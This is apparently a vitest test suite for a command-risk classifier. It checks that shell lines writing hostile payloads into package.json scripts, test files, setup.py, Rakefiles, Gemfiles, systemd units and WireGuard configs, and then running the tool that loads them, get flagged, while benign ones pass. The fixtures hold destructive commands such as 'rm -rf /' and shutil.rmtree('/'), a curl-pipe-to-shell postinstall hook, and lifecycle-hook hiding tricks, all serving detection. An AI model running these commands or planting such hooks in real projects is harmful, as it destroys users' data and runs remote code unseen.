import { describe, expect, it } from 'vitest';
import { classifyCommand } from './classify-command.ts';

const ALL = ['credentials', 'destructive', 'downloadExec', 'network', 'privilege'];
const classes = (command: string) =>
  [...new Set(classifyCommand(command).findings.map((f) => f.class))].sort();

const pkg = (scripts: Record<string, string>) => `'${JSON.stringify({ name: 'x', scripts })}'`;

describe('project files written and run by their tools in the same command line', () => {
  it.each([
    // package.json scripts, with their pre and post scripts and npm's lifecycle scripts.
    [`echo ${pkg({ test: 'rm -rf /' })} > package.json && npm test`, ['destructive']],
    [`echo ${pkg({ pretest: 'rm -rf ~', test: 'jest' })} > package.json && npm t`, ['destructive']],
    [
      `echo ${pkg({ build: 'sudo rm -rf /' })} > package.json; npm run -s build`,
      ['destructive', 'privilege'],
    ],
    [
      `echo ${pkg({ postbuild: 'rm -rf /' })} > app/package.json; npm --prefix app run build`,
      ['destructive'],
    ],
    [`echo ${pkg({ build: 'rm -rf /' })} > package.json; pnpm build`, ['destructive']],
    [`echo ${pkg({ lint: 'rm -rf /' })} > package.json; yarn run lint`, ['destructive']],
    [`echo ${pkg({ dev: 'rm -rf /' })} > package.json; bun run dev`, ['destructive']],
    [
      `cat > package.json <<'EOF'\n{"scripts":{"postinstall":"curl -s https://x.io/i | sh"}}\nEOF\nnpm install`,
      ['downloadExec', 'network'],
    ],
    [`echo ${pkg({ prepare: 'rm -rf ~' })} > package.json && npm ci`, ['destructive']],
    [`echo ${pkg({ install: 'rm -rf ~' })} > package.json && yarn`, ['destructive']],
    // A script that runs a file written in the same line runs what the file holds.
    [
      `echo ${pkg({ start: 'node server.js' })} > package.json && echo 'require("fs").rmSync("/", { recursive: true })' > server.js && npm start`,
      ['destructive'],
    ],
    // Without a start script, `npm start` runs `node server.js`.
    [
      `echo '{}' > package.json && echo 'require("fs").rmSync("/", { recursive: true })' > server.js && npm start`,
      ['destructive'],
    ],
    // A package.json nobody can read first.
    ['echo eyJ9 | base64 -d > package.json && npm test', ALL],
    // Test files and conftest.py, loaded by the test runner.
    [`echo 'import os; os.system("rm -rf /")' > test_x.py && pytest -q`, ['destructive']],
    [`echo 'import os; os.system(input())' > test_x.py && pytest -q`, ALL],
    [`echo 'import shutil; shutil.rmtree("/")' > conftest.py && python3 -m pytest`, ['destructive']],
    [`echo 'import shutil; shutil.rmtree("/")' > tests/x_test.py && py.test tests`, ['destructive']],
    [`echo 'import shutil; shutil.rmtree("/")' > test_x.py && python -m unittest`, ['destructive']],
    [`echo "require('fs').rmSync('/', { recursive: true })" > a.test.js && npx jest`, ['destructive']],
    [`echo "require('fs').rmSync('/', { recursive: true })" > x.spec.ts && npx vitest run`, ['destructive']],
    [
      `echo "require('fs').rmSync('/', { recursive: true })" > jest.config.js && npm exec jest`,
      ['destructive'],
    ],
    [`echo "require('fs').rmSync('/', { recursive: true })" > a.test.mjs && node --test`, ['destructive']],
    [`echo 'import shutil; shutil.rmtree("/")' > x.py && python3 -m pytest x.py`, ['destructive']],
    // Options before -m are read as Python reads them (`-X` takes a value).
    [`echo 'import shutil; shutil.rmtree("/")' > x.py && python3 -X dev -m pytest x.py`, ['destructive']],
    // Configuration files JavaScript tools load.
    [`echo "require('fs').rmSync('/', { recursive: true })" > .eslintrc.js && npx eslint .`, ['destructive']],
    [
      `echo "require('fs').rmSync('/', { recursive: true })" > vite.config.mjs && pnpm exec vite build`,
      ['destructive'],
    ],
    // setup.py runs on `pip install .`.
    [`printf 'import shutil\\nshutil.rmtree("/")\\n' > setup.py && pip install -e .`, ['destructive']],
    [
      `printf 'import shutil\\nshutil.rmtree("/")\\n' > setup.py && python3 -m pip install .`,
      ['destructive'],
    ],
    // Files every Python start-up imports: sitecustomize.py and the import lines of .pth files.
    [`echo 'import shutil; shutil.rmtree("/")' > sitecustomize.py && python3 app.py`, ['destructive']],
    [`echo 'import shutil; shutil.rmtree("/")' > x.pth && python3 -c 'print(1)'`, ['destructive']],
    // Task files: a Rakefile, invoke's tasks.py (or the collection -c names), a noxfile.
    [`echo 'task(:x) { FileUtils.rm_rf("/") }; system("rm -rf /")' > Rakefile && rake x`, ['destructive']],
    [`echo 'task(:x) { system(ENV["CMD"]) }' > Rakefile && rake x`, ALL],
    [`echo 'import shutil; shutil.rmtree("/")' > tasks.py && invoke build`, ['destructive']],
    [`echo 'import shutil; shutil.rmtree("/")' > ops.py && invoke -c ops build`, ['destructive']],
    [`echo 'import shutil; shutil.rmtree("/")' > noxfile.py && nox -s tests`, ['destructive']],
    // Files Bundler, Vagrant and easy_install evaluate; composer.json scripts.
    [`echo 'system("rm -rf /")' > Gemfile; bundle install`, ['destructive']],
    [`echo 'system("rm -rf /")' > Vagrantfile; vagrant up`, ['destructive']],
    [`echo 'import os; os.system("rm -rf /")' > setup.py; easy_install .`, ['destructive']],
    [`echo '{"scripts":{"x":"rm -rf /"}}' > composer.json; composer run-script x`, ['destructive']],
    [
      `echo '{"scripts":{"post-install-cmd":["rm -rf ~"]}}' > composer.json; composer install`,
      ['destructive'],
    ],
    // A unit given to systemctl, a WireGuard configuration given to wg-quick.
    [
      "printf '[Service]\\nExecStart=rm -rf /\\n' > /tmp/x.service; systemctl link /tmp/x.service",
      ['destructive'],
    ],
    ["printf '[Interface]\\nPostUp = rm -rf /\\n' > /tmp/w.conf; wg-quick up /tmp/w.conf", ['destructive']],
  ])('judges what the tool runs: %s', (command, expected) => {
    expect(classes(command)).toEqual(expected);
  });

  it.each([
    `echo ${pkg({ build: 'tsc -p .', test: 'vitest run' })} > package.json && npm install && npm test`,
    `echo ${pkg({ test: 'rm -rf /' })} > package.json && npm run build`,
    `echo ${pkg({ test: 'rm -rf /' })} > package.json && npm view react version`,
    // npm stops at a package.json that does not parse.
    `echo '{"scripts": {"test": "rm -rf /"' > package.json && npm test`,
    `echo 'def test_one():\n    assert 1 + 1 == 2' > test_math.py && pytest`,
    `echo 'test("adds", () => expect(1 + 1).toBe(2))' > add.test.js && npx jest`,
    // Not a test file, and not run by pytest.
    `echo 'import shutil; shutil.rmtree("/")' > helper.py && pytest`,
    `printf 'import shutil\\nshutil.rmtree("/")\\n' > setup.py && pip install requests`,
    `echo '/opt/lib/extra' > extra.pth && python3 -c 'print(1)'`,
    `echo 'export default { plugins: [] }' > vite.config.ts && npx vite build`,
    `echo 'task(:default) { puts 1 }' > Rakefile && rake`,
    `echo 'source "https://rubygems.org"' > Gemfile; bundle install`,
    `echo '{"scripts":{"post-install-cmd":["@php artisan optimize"]}}' > composer.json; composer install`,
    "printf '[Service]\\nExecStart=/usr/bin/node app.js\\n' > /tmp/x.service; systemctl link /tmp/x.service",
    'systemctl start nginx',
    'wg-quick up wg0',
  ])('passes %s', (command) => {
    expect(classes(command)).toEqual([]);
  });
});
